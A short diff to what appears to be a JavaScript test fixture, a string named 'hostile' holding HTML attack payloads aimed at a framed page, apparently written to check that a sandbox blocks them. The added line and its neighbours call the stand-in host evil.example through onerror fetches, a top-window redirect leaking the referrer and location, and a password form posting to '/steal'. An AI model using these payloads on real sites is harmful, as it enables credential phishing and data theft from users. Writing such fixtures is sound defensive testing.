@@ -6,6 +6,7 @@ const hostile = `
 <h1>Sign in again</h1>
 <script>top.location = 'https://evil.example/top?' + document.referrer</script>
 <img src="https://pictures.example/logo.png" alt="Logo" referrerpolicy="unsafe-url">
+<img src="x" onerror="fetch('https://evil.example/ran')">
 <img src="x" onerror="top.postMessage({ from: 'branded-frame', href: 'https://evil.example/' + top.location.search }, '*'); fetch('https://evil.example/' + top.location)">
 <form action="https://evil.example/steal" target="_top"><input name="password" autofocus><button id="send">Go</button></form>
 <base href="https://evil.example/"><object data="https://evil.example/object"></object>`;
